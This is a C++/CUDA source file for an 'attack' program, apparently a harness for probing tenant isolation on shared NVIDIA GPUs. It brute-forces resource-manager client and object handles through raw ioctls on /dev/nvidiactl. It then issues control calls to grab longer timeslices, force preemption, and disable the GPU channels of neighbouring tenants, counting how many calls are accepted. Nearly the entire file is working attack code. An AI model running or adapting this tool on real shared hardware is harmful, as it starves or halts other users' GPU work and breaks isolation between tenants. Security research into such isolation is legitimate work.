// SPDX-License-Identifier: MIT
/*
 * A tenant that wants more than its share, while it works: through CUDA's own
 * client and handles, which it finds by trying.
 *   attack FILE ITERS SECONDS none|slice|disable|enable|wfi|remap
 * `disable` names channels of the clients around its own: the neighbours'. `remap`
 * maps memory, frees it and unmaps it without a pause.
 */
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <thread>
#include <unistd.h>
#include <vector>

#include <cuda_runtime.h>

#include "load.cuh"

static std::vector<int> control_files()
{
	std::vector<int> found;
	DIR *dir = opendir("/proc/self/fd");

	while (dirent *entry = readdir(dir)) {
		char target[256] = {0};
		std::string path = std::string("/proc/self/fd/") + entry->d_name;

		if (readlink(path.c_str(), target, sizeof(target) - 1) > 0 &&
		    !strcmp(target, "/dev/nvidiactl"))
			found.push_back(atoi(entry->d_name));
	}
	closedir(dir);
	return found;
}

static uint32_t control(int fd, uint32_t client, uint32_t object, uint32_t cmd, void *params,
			uint32_t size)
{
	struct {
		uint32_t client, object, cmd, flags;
		uint64_t params;
		uint32_t size, status;
	} args = {client, object, cmd, 0, (uint64_t)params, size, 0};

	return ioctl(fd, _IOWR('F', 42, args), &args) ? 0xffff : args.status;
}

struct handle {
	int fd;
	uint32_t client, object;
};

int main(int argc, char **argv)
{
	if (argc < 5)
		return 1;
	long iterations = atol(argv[2]);
	double seconds = atof(argv[3]);
	std::string mode = argv[4];
	int sms, file = open(argv[1], O_RDWR | O_CREAT, 0600);
	float *out;

	if (file < 0 || ftruncate(file, sizeof(progress)))
		return 1;
	auto *at = (volatile progress *)mmap(NULL, sizeof(progress), PROT_READ | PROT_WRITE,
					     MAP_SHARED, file, 0);
	cudaMalloc(&out, 4);
	cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, 0);
	uint64_t end = now_ns() + (uint64_t)(seconds * 1e9);
	std::thread worker([&] {
		cudaEvent_t done[4];

		for (auto &event : done) {
			cudaEventCreateWithFlags(&event, cudaEventDisableTiming |
						 cudaEventBlockingSync);
			multiply_add<<<sms * 8, 256>>>(out, iterations);
			cudaEventRecord(event);
		}
		for (long i = 0; now_ns() < end; i++) {
			cudaEventSynchronize(done[i % 4]);
			at->last_ns = now_ns();
			at->count = at->count + 1;
			multiply_add<<<sms * 8, 256>>>(out, iterations);
			cudaEventRecord(done[i % 4]);
		}
	});

	/* groups, channels, subdevices of our own: whatever answers to its own control */
	std::vector<handle> groups, subdevices;
	uint32_t own = 0;
	for (int fd : control_files())
		for (uint32_t client = 0xc1d00000; client < 0xc1d00400; client++) {
			uint8_t ids[128] = {0};

			if (control(fd, client, client, 0x201, ids, sizeof(ids)))
				continue;
			own = client;
			for (uint32_t object = 0x5c000000; object < 0x5c000100; object++) {
				uint64_t slice = 0;
				uint8_t name[132] = {0};

				if (!control(fd, client, object, 0xa06c0104, &slice, 8))
					groups.push_back({fd, client, object});
				else if (!control(fd, client, object, 0x20800110, name, 132))
					subdevices.push_back({fd, client, object});
			}
		}
	long tried = 0, accepted = 0;
	uint8_t gate[536];
	while (mode != "none" && now_ns() < end) {
		if (mode == "remap") {
			void *piece = NULL, *managed = NULL;

			tried += 2;
			accepted += cudaMalloc(&piece, 64 << 20) == cudaSuccess;
			accepted += cudaMallocManaged(&managed, 64 << 20) == cudaSuccess;
			cudaFree(piece);
			cudaFree(managed);
			continue;
		}
		for (auto &g : groups) {
			uint64_t slice_us = 1000000;

			if (mode == "slice") {
				tried++;
				accepted += !control(g.fd, g.client, g.object, 0xa06c0103, &slice_us, 8);
			}
		}
		for (auto &s : subdevices) {
			if (mode == "wfi") {
				for (uint32_t channel = 0x5c000000; channel < 0x5c000100; channel++) {
					uint32_t params[8] = {1, channel, 0, 0};

					tried++;
					accepted += !control(s.fd, s.client, s.object, 0x20801210,
							     params, 32);
				}
			} else if (mode == "disable" || mode == "enable") {
				for (uint32_t client = own - 12; client <= own + 12; client++) {
					if ((client == own) != (mode == "enable"))
						continue;
					for (uint32_t object = 0x5c000000; object < 0x5c000080;
					     object++) {
						memset(gate, 0, sizeof(gate));
						gate[0] = mode == "disable";
						*(uint32_t *)(gate + 4) = 1;
						*(uint32_t *)(gate + 24) = client;
						*(uint32_t *)(gate + 280) = object;
						tried++;
						accepted += !control(s.fd, s.client, s.object,
								     0x2080110b, gate, 536);
						if (now_ns() > end)
							goto over;
					}
				}
			}
			break;
		}
		usleep(1000);
	}
over:
	worker.join();
	printf("{\"groups\": %zu, \"subdevices\": %zu, \"tried\": %ld, \"accepted\": %ld, \"count\": %llu}\n",
	       groups.size(), subdevices.size(), tried, accepted, (unsigned long long)at->count);
	/* what was shut stays shut until somebody opens it: leave nothing behind */
	if (mode == "disable")
		for (auto &s : subdevices)
			for (uint32_t client = own - 12; client <= own + 12; client++)
				for (uint32_t object = 0x5c000000; object < 0x5c000080; object++) {
					memset(gate, 0, sizeof(gate));
					*(uint32_t *)(gate + 4) = 1;
					*(uint32_t *)(gate + 24) = client;
					*(uint32_t *)(gate + 280) = object;
					control(s.fd, s.client, s.object, 0x2080110b, gate, 536);
				}
	return 0;
}
